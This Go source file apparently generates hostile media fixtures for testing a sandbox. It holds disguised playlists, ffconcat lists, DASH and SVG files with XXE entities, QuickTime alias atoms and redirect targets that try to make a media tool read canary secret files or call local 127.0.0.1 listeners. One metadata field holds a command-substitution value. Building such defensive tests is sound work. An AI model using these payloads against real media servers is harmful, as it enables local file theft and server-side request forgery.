package hostile

// Files that are not what their names say: lists, descriptions and containers that name other files and addresses.

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
)

// File is a file of the sandbox.
type File struct {
	Name    string
	Content []byte
}

// Disguised are files in which other files and addresses are named.
func (s *Site) Disguised() []File {
	var files []File
	add := func(name, content string) { files = append(files, File{name, []byte(s.fill(content))}) }
	hls := func(lines string) string {
		return "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:9\n#EXT-X-MEDIA-SEQUENCE:0\n" + lines + "\n#EXT-X-ENDLIST\n"
	}
	add("concat-absolute.mp4", "ffconcat version 1.0\nfile '{C}/c.mp4'\n")
	add("concat-relative.mp4", "ffconcat version 1.0\nfile ../canary/c.mp4\n")
	add("concat-call.mp4", "ffconcat version 1.0\nfile 'tcp://127.0.0.1:{T}/'\noption protocol_whitelist file,tcp,http,udp\n")
	add("concat-wrapped.mkv", "ffconcat version 1.0\nfile 'subfile,,start,0,end,0,,:{C}/c.mp4'\n")
	add("concat-still.png", "ffconcat version 1.0\nfile {C}/1.png\nduration 5\n")
	add("list.ffconcat", "ffconcat version 1.0\nfile ../canary/c.mp4\n")
	add("concat-plain.txt", "file '{C}/c.mp4'\nfile '../canary/c.ts'\n")
	add("hls-absolute.mp4", hls("#EXTINF:9,\n{C}/c.ts"))
	add("hls-relative.mp4", hls("#EXTINF:9,\n../canary/c.ts"))
	add("hls-file.avi", hls("#EXTINF:9,\nfile://{C}/c.ts"))
	add("hls-file-mp4.mov", hls("#EXTINF:9,\nfile:{C}/c.mp4"))
	add("hls-call.mp4", hls("#EXTINF:9,\nhttp://127.0.0.1:{T}/x.ts"))
	add("hls-tcp.ts", hls("#EXTINF:9,\ntcp://127.0.0.1:{T}/"))
	add("hls-gopher.mp4", hls("#EXTINF:9,\ngopher://127.0.0.1:{T}/_x"))
	add("hls-udp.mp4", hls("#EXTINF:9,\nudp://127.0.0.1:{U}"))
	add("hls-concat.mp4", hls("#EXTINF:9,\nconcat:http://127.0.0.1:{T}/?|{C}/secret.txt"))
	add("hls-subfile.mp4", hls("#EXTINF:9,\nsubfile,,start,0,end,0,,:{C}/secret.txt"))
	add("hls-data.mp4", hls("#EXTINF:9,\ndata:text/plain,ffconcat%20version%201.0%0Afile%20{C}/c.mp4"))
	add("hls-crypto.mp4", hls("#EXTINF:9,\ncrypto+file://{C}/c.ts"))
	add("hls-key-file.mp4", hls("#EXT-X-KEY:METHOD=AES-128,URI=\"file://{C}/secret.txt\"\n#EXTINF:9,\n{C}/c.ts"))
	add("hls-key-call.mp4", hls("#EXT-X-KEY:METHOD=AES-128,URI=\"http://127.0.0.1:{T}/key\"\n#EXTINF:9,\n{C}/c.ts"))
	add("hls-map.mp4", hls("#EXT-X-MAP:URI=\"{C}/c.mp4\"\n#EXTINF:9,\n{C}/c.mp4"))
	add("hls-variants.mp4", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{C}/c.m3u8\n#EXT-X-STREAM-INF:BANDWIDTH=2\nhttp://127.0.0.1:{T}/x.m3u8\n")
	add("hls-media.mp4", "#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"a\",URI=\"file://{C}/c.ts\"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO=\"a\"\nhttp://127.0.0.1:{T}/x.m3u8\n")
	add("live.m3u8", hls("#EXTINF:9,\n../canary/c.ts"))
	add("hls-mark.mp4", "\ufeff"+hls("#EXTINF:9,\n{C}/c.ts"))
	add("hls-picture.jpg", hls("#EXTINF:9,\n{C}/c.ts"))
	add("hls-id3.mp4", "ID3\x03\x00\x00\x00\x00\x00\x0a\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"+hls("#EXTINF:9,\n{C}/c.ts"))
	add("%d.png", hls("#EXTINF:9,\n{C}/c.ts"))
	add("list.m3u", "{C}/c.mp4\nhttp://127.0.0.1:{T}/x\n")
	add("list.pls", "[playlist]\nFile1={C}/c.mp4\nFile2=http://127.0.0.1:{T}/\nNumberOfEntries=2\n")
	add("list.xspf", "<?xml version=\"1.0\"?><playlist version=\"1\" xmlns=\"http://xspf.org/ns/0/\"><trackList><track><location>file://{C}/c.mp4</location></track></trackList></playlist>")
	add("list.asx", "<asx version=\"3.0\"><entry><ref href=\"file://{C}/c.mp4\"/><ref href=\"http://127.0.0.1:{T}/x.asf\"/></entry></asx>")
	add("reference.asf", "[Reference]\r\nRef1=http://127.0.0.1:{T}/x.asf?MSWMExt=.asf\r\nRef2=file://{C}/c.mp4\r\n")
	sdp := "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\na=tool:x\r\nm=video {U} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\na=control:rtsp://127.0.0.1:{T}/x\r\n"
	add("description.mp4", sdp)
	add("camera.sdp", sdp)
	mpd := `<?xml version="1.0"?>` + "#" + `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-main:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" width="48" height="32"><BaseURL>@</BaseURL><SegmentBase indexRange="0-1"/></Representation></AdaptationSet></Period></MPD>`
	dash := func(name, doctype, base string) {
		add(name, strings.NewReplacer("#", doctype, "@", base).Replace(mpd))
	}
	dash("dash-file.mp4", "", "file://{C}/c.mp4")
	dash("dash-absolute.mpd", "", "{C}/c.mp4")
	dash("dash-call.mp4", "", "http://127.0.0.1:{T}/x.mp4")
	dash("dash-entity.mpd", `<!DOCTYPE x [<!ENTITY e SYSTEM "file://{C}/secret.txt"><!ENTITY f SYSTEM "http://127.0.0.1:{T}/dtd">]>`, "&e;&f;")
	add("imf.xml", `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id><EditRate>25 1</EditRate><SegmentList/></CompositionPlaylist>`)
	add("ASSETMAP.xml", `<?xml version="1.0"?><AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><AssetList><Asset><Id>urn:uuid:0</Id><ChunkList><Chunk><Path>{C}/c.mp4</Path></Chunk></ChunkList></Asset></AssetList></AssetMap>`)
	svg := `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file://{C}/secret.txt">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48"><image xlink:href="file://{C}/1.png" width="64" height="48"/><image xlink:href="http://127.0.0.1:{T}/x.png"/><text>&e;</text></svg>`
	add("picture.svg", svg)
	add("picture.png", svg)
	add("picture.mp4", svg)
	add("text.txt", "\x1b[2J{C}/secret.txt\n")
	add("metadata.mp4", ";FFMETADATA1\ntitle={C}/c.mp4\nencoder=-i {C}/c.mp4\n[STREAM]\nlanguage=$(cat {C}/secret.txt)\n")
	add("subtitles.mp4", "# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n")
	add("subtitles.mkv", "1\n00:00:00,000 --> 00:00:09,000\n<img src='http://127.0.0.1:{T}/'/>\n")
	add("script.vpy", "import vapoursynth as v\nopen('{C}/secret.txt').read()\n")
	add("script.avs", "DirectShowSource(\"{C}/c.mp4\")\n")
	add("brainwave.mp4", "-SE\nts: pink/40 100+1/10\nNOW ts\n00:00 mix {C}/c.mp4\n")
	add("dump.mp4", "#!rtpplay1.0 127.0.0.1/{U}\n")
	inner := hls("#EXTINF:9,\n{C}/c.ts")
	files = append(files,
		File{"alias-absolute.mov", movie("rgb ", 16, 16, 1, 768, alias(s.Canary+"/c.mp4", 1, 1), nil)},
		File{"alias-relative.mov", movie("rgb ", 16, 16, 1, 768, alias("canary/c.mp4", 2, 2), nil)},
		File{"alias-call.mp4", movie("rgb ", 16, 16, 1, 768, alias(s.fill("tcp://127.0.0.1:{T}"), 1, 1), nil)},
		File{"reference.mov", slices.Concat(box("ftyp", []byte("qt  "), be32(0)), box("moov", box("rmra", box("rmda", box("rdrf", be32(0), []byte("url "), be32(len(s.Canary)+13), []byte("file://"+s.Canary+"/c.mp4\x00"))))))},
		File{"url.mp4", movie("rgb ", 16, 16, 1, 768, box("url ", be32(0), []byte("file://"+s.Canary+"/c.mp4\x00")), nil)},
		File{"inner.avi", avi([]byte(s.fill(inner)))},
		File{"inner-concat.avi", avi([]byte(s.fill("ffconcat version 1.0\nfile {C}/c.mp4\n")))},
		File{"next.mkv", matroska(s.Canary + "/c.mp4")},
		File{"forged-log.mkv", matroska("x", forgedTrack("V_X\n[Parsed_showinfo_0 @ 0x1] [info] config in time_base: 1/1, frame_rate: 1/1\n[Parsed_showinfo_0 @ 0x1] [info] n:   0 pts:      0 fmt:rgb24 sar:1/1 s:9999x9999 i:P iskey:1 type:I \n[fatal] forged"))},
		File{"packets.ts", append(append([]byte{0x47, 0x1f, 0xff, 0x10}, make([]byte, 184)...), s.fill(inner)...)},
	)
	return files
}

// Write puts a file into the sandbox and returns its path.
func (s *Site) Write(f File) (path string, err error) {
	path = filepath.Join(s.Sandbox, f.Name)
	return path, os.WriteFile(path, f.Content, 0o600)
}

// Redirects are places to which a server of HTTP may send who asks it: none of HTTP itself.
func (s *Site) Redirects() []string {
	var all []string
	for _, to := range []string{
		"file://{C}/c.mp4", "file:{C}/c.mp4", "FILE:///{C}/c.mp4", "concat:{C}/c.mp4", "subfile,,start,0,end,0,,:{C}/c.mp4", "crypto+file:{C}/c.mp4", "cache:file:{C}/c.mp4", "data:,x",
		"unix:{X}", "pipe:0", "fd:3", "tee:{C}/w.mp4", "hls+file:{C}/c.m3u8", "tcp:127.0.0.1:{T}", "udp:127.0.0.1:{U}", "file://127.0.0.1{C}/c.mp4",
	} {
		all = append(all, s.fill(to))
	}
	return all
}
